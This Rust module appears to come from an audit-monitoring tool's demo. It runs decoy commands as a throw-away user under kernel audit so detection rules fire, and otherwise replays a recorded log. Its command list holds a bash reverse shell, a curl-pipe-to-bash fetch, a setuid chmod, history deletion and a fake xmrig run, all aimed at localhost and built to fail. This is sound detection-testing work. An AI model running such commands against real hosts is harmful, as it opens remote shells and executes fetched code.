//! What happens on the demo's node: harmless commands of a throw-away user id, recorded by the kernel; or, where that
//! cannot be, a recording of them.

use std::fs::{self, File};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::Context;
use auditflow_tests::{Agent, Binaries, lock_kernel_audit};

use super::agent_command;
use crate::install::is_root;

/// A user id that nobody has: the kernel records nothing but its doings.
const THROW_AWAY_ID: u32 = 64_738;

/// What those commands left in a kernel's audit log.
const RECORDING: &str = include_str!("../../../tests/samples/demo-audit.log");

/// Commands that do nothing and look like something, each for one rule or more.
const COMMANDS: &[&str] = &[
    "bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'",
    "bash -c 'curl -s http://127.0.0.1:1/x | bash'",
    "chmod 4755 own-file",
    "rm -f .bash_history",
    "./xmrig --help",
];

/// Where the node's events come from.
pub(super) enum Workload<'b> {
    /// Real commands under real audit.
    Kernel(Recorded<'b>),
    /// A recording.
    Recording { log: PathBuf },
}

/// The throw-away user under kernel audit. The settings that were found are put back at the latest when this is dropped.
pub(super) struct Recorded<'b> {
    binaries: &'b Binaries,
    home: PathBuf,
    /// Where what was found is written down; `None` once it is put back.
    state: Option<PathBuf>,
    _turn: Option<File>,
}

impl<'b> Workload<'b> {
    /// Asks the kernel to record the throw-away user's doings; falls back to the recording where it does not.
    pub(super) fn prepare(binaries: &'b Binaries, folder: &Path) -> anyhow::Result<Self> {
        let turn = is_root().then(lock_kernel_audit).transpose()?;
        let (rules, state) = (folder.join("demo.rules"), folder.join("audit-state.json"));
        fs::write(
            &rules,
            format!("-a always,exit -F arch=b64 -S execve -F uid={THROW_AWAY_ID} -k auditflow-demo\n"),
        )?;
        let (rules, state_text) = (rules.display().to_string(), state.display().to_string());
        let loaded = agent_command(binaries, &["load-rules", &rules, "--state", &state_text])?;
        if loaded.status.success() {
            let home = folder.join("home");
            let recorded = Recorded { binaries, home, state: Some(state), _turn: turn };
            make_home(&recorded.home)?;
            return Ok(Self::Kernel(recorded));
        }
        println!("no kernel audit here ({}): replaying a recording", loaded.stderr.trim());
        let log = folder.join("audit.log");
        fs::write(&log, RECORDING)?;
        Ok(Self::Recording { log })
    }

    /// What it is, for the greeting.
    pub(super) fn described(&self) -> String {
        match self {
            Self::Kernel(_) => format!("recording what user id {THROW_AWAY_ID} does, by kernel audit"),
            Self::Recording { .. } => "replaying tests/samples/demo-audit.log".to_owned(),
        }
    }

    /// The agent's sources for it.
    pub(super) fn sources(&self) -> String {
        match self {
            Self::Kernel(_) => String::new(),
            Self::Recording { log } => {
                let log = log.display().to_string();
                format!(
                    "[sources.kernel_audit]\nenabled = false\n[sources.audit_log]\nenabled = true\npath = {log:?}"
                )
            }
        }
    }

    /// Makes something happen.
    pub(super) fn act(&self, agent: &Agent) -> anyhow::Result<()> {
        for _ in 0..3 {
            let failed = r#"{"event_type":"user_login","action_result":"FAILURE","user_id":"demo","details":{"ip_address":"192.0.2.7"}}"#;
            agent.ask("POST", "/generate_event", failed)?;
        }
        let Self::Kernel(Recorded { home, .. }) = self else { return Ok(()) };
        for command in COMMANDS {
            // Most of these fail, as they are meant to: nobody listens, nothing is there.
            Command::new("/bin/sh")
                .args(["-c", command])
                .current_dir(home)
                .env("HOME", home)
                .uid(THROW_AWAY_ID)
                .gid(THROW_AWAY_ID)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .with_context(|| format!("cannot run {command}"))?;
        }
        Ok(())
    }

    /// Puts the audit settings back.
    pub(super) fn restore(mut self) -> anyhow::Result<()> {
        if let Self::Kernel(recorded) = &mut self { recorded.restore() } else { Ok(()) }
    }
}

impl Recorded<'_> {
    fn restore(&mut self) -> anyhow::Result<()> {
        let Some(state) = self.state.take() else { return Ok(()) };
        let state = state.display().to_string();
        agent_command(self.binaries, &["load-rules", "--restore", "--state", &state])?.success()?;
        Ok(())
    }
}

impl Drop for Recorded<'_> {
    fn drop(&mut self) {
        if let Err(error) = self.restore() {
            eprintln!("the audit settings were not put back: {error:#}");
        }
    }
}

/// A folder of the throw-away user's own, with what the commands touch.
fn make_home(home: &Path) -> anyhow::Result<()> {
    use std::os::unix::fs::{PermissionsExt, chown};
    fs::create_dir_all(home)?;
    if let Some(above) = home.parent() {
        fs::set_permissions(above, fs::Permissions::from_mode(0o711))?;
    }
    fs::write(home.join("own-file"), "")?;
    fs::copy("/bin/true", home.join("xmrig"))?;
    for path in [home.to_owned(), home.join("own-file"), home.join("xmrig")] {
        chown(path, Some(THROW_AWAY_ID), Some(THROW_AWAY_ID))?;
    }
    Ok(())
}
